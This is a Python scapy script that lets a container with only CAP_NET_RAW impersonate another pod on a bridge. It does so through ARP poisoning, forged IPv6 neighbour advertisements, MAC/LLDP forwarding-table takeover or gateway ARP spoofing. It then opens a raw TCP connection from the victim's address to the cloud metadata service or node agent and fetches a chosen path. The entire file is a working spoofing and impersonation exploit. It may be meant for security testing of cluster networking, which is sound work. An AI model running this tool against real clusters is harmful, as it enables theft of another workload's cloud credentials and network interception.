"""A pod that passes for another on a bridge, with nothing but CAP_NET_RAW.

Run inside the attacker pod's network namespace under
`setpriv --bounding-set=-all,+net_raw` (what containerd grants every container by default).
It speaks TCP entirely over a raw packet socket, from the victim's address, to the metadata
address (or `--target`, the agent's own address and port), and asks for `--path`. For the node's answers to reach it, it first takes over one of
two things the attacker can write from its own port:

- `--mode arp`: the node's neighbour entry for the victim's address (ARP requests to the node
  claiming that address with the attacker's MAC);
- `--mode mac`: the bridge's forwarding entry for the victim's MAC (frames sent with the
  victim's MAC as their source); `--mode lldp` the same with frames to LLDP's link-local group
  address, which the bridge learns from outside netfilter's bridge hooks;
- `--mode na`: on IPv6, the node's neighbour entry for the victim's address (unsolicited
  neighbour advertisements, override flag set, naming the attacker's MAC).

`--mode gateway` claims the gateway's address to the victim (ARP replies) and stops there.
`--mode syn` sends one forged SYN from the victim's address and takes over nothing (on a
routed link the answer goes to the victim's own link; whether the SYN got past the node's
first hook shows in its connection tracking).

Prints one JSON line: {"answered": false} when the handshake got no answer, or
{"answered": true, "response": "<HTTP response>"}, or for `syn` {"sport": <source port>}.
"""

import argparse
import json
import random
import select
import sys
import time

from scapy.all import (  # noqa: E402
    ARP,
    IP,
    TCP,
    Dot1Q,
    Ether,
    ICMPv6ND_NA,
    ICMPv6NDOptDstLLAddr,
    IPv6,
    Raw,
    conf,
    in6_mactoifaceid,
)

METADATA = "169.254.169.254"


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--mode", choices=["arp", "na", "mac", "lldp", "syn", "gateway"], required=True)
    parser.add_argument("--victim-ip", required=True)
    parser.add_argument("--victim-mac", required=True)
    parser.add_argument("--gateway-ip", required=True)
    parser.add_argument("--gateway-mac", required=True)
    parser.add_argument("--path", required=True)
    parser.add_argument("--target", default=f"{METADATA}:80", help="where to connect: the metadata address, or the agent's own")
    parser.add_argument("--timeout", type=float, default=3.0)
    parser.add_argument(
        "--vlan-tags",
        type=int,
        default=0,
        help="wrap frames in priority tags (802.1Q, VLAN 0): one on the claims, this many on the TCP frames",
    )
    args = parser.parse_args()

    sock = conf.L2socket(iface=args.iface)
    own_mac = open(f"/sys/class/net/{args.iface}/address").read().strip()
    source_mac = args.victim_mac if args.mode in ("mac", "lldp") else own_mac

    def tagged(ether, count):
        # A bridge that is not VLAN-aware hands VLAN 0 (a priority tag) to the node untagged.
        for _ in range(count):
            ether = ether / Dot1Q(vlan=0)
        return ether

    claim_tags = min(args.vlan_tags, 1)

    def poison():
        if args.mode == "syn":
            return
        if args.mode == "na":
            advert = ICMPv6ND_NA(tgt=args.victim_ip, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=own_mac)
            # From the attacker's own link-local address: only the target claims the victim's.
            own_link_local = "fe80::" + in6_mactoifaceid(own_mac)
            head = tagged(Ether(src=own_mac, dst="33:33:00:00:00:01"), claim_tags)
            sock.send(head / IPv6(src=own_link_local, dst="ff02::1", hlim=255) / advert)
        elif args.mode == "arp":
            # "Who has the gateway? Tell <victim IP> at <attacker MAC>": the node learns it.
            claim = ARP(op=1, hwsrc=own_mac, psrc=args.victim_ip, hwdst="00:00:00:00:00:00", pdst=args.gateway_ip)
            sock.send(tagged(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff"), claim_tags) / claim)
        elif args.mode == "gateway":
            # An ARP reply to the victim: "the gateway is at the attacker's MAC".
            claim = ARP(op=2, hwsrc=own_mac, psrc=args.gateway_ip, hwdst=args.victim_mac, pdst=args.victim_ip)
            sock.send(Ether(src=own_mac, dst=args.victim_mac) / claim)
        elif args.mode == "lldp":
            # To LLDP's group address, which the bridge learns from with no netfilter hook.
            sock.send(Ether(src=args.victim_mac, dst="01:80:c2:00:00:0e", type=0x88CC) / Raw(b"\0" * 46))
        else:
            # Any frame from the victim's MAC teaches the bridge that MAC is on this port: one
            # that claims no address at all (IEEE's local experimental EtherType).
            sock.send(Ether(src=args.victim_mac, dst=args.gateway_mac, type=0x88B5) / Raw(b"iamlet-test"))

    def wait(matches, timeout):
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([sock], [], [], left)
            if not ready:
                break
            packet = sock.recv()
            if packet is not None and matches(packet):
                return packet
        return None

    for _ in range(3 if args.mode != "syn" else 0):
        poison()
        time.sleep(0.05)

    target_ip, target_port = args.target.rsplit(":", 1)
    target_ip, target_port = target_ip.strip("[]"), int(target_port)
    layer = IPv6 if ":" in args.victim_ip else IP
    if args.mode == "gateway":
        print(json.dumps({"claimed": args.gateway_ip}))
        return 0
    frame = tagged(Ether(src=source_mac, dst=args.gateway_mac), args.vlan_tags) / layer(src=args.victim_ip, dst=target_ip)
    sport, seq = random.randint(20000, 60000), random.randint(0, 2**31)

    def ours(packet):
        return (
            TCP in packet
            and layer in packet
            and packet[layer].src == target_ip
            and packet[layer].dst == args.victim_ip
            and packet[TCP].sport == target_port
            and packet[TCP].dport == sport
        )

    poison()
    sock.send(frame / TCP(sport=sport, dport=target_port, flags="S", seq=seq))
    if args.mode == "syn":
        print(json.dumps({"sport": sport}))
        return 0
    synack = wait(lambda p: ours(p) and (int(p[TCP].flags) & 0x12) == 0x12, args.timeout)
    if synack is None:
        poison()
        print(json.dumps({"answered": False}))
        return 0
    seq += 1
    ack = synack[TCP].seq + 1
    request = f"GET {args.path} HTTP/1.0\r\nHost: {METADATA}\r\n\r\n".encode()
    poison()
    sock.send(frame / TCP(sport=sport, dport=target_port, flags="PA", seq=seq, ack=ack) / Raw(request))
    seq += len(request)
    segments = {}
    finished = False
    while not finished:
        packet = wait(ours, args.timeout)
        if packet is None:
            break
        payload = bytes(packet[TCP].payload)
        if payload:
            segments[packet[TCP].seq] = payload
            ack = max(ack, packet[TCP].seq + len(payload))
        if int(packet[TCP].flags) & 0x01:
            finished = True
            ack = max(ack, packet[TCP].seq + len(payload) + 1)
        sock.send(frame / TCP(sport=sport, dport=target_port, flags="A", seq=seq, ack=ack))
    poison()  # what the node's entries hold when this returns is the attacker's doing
    response = b"".join(segments[key] for key in sorted(segments))
    print(json.dumps({"answered": True, "response": response.decode(errors="replace")}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
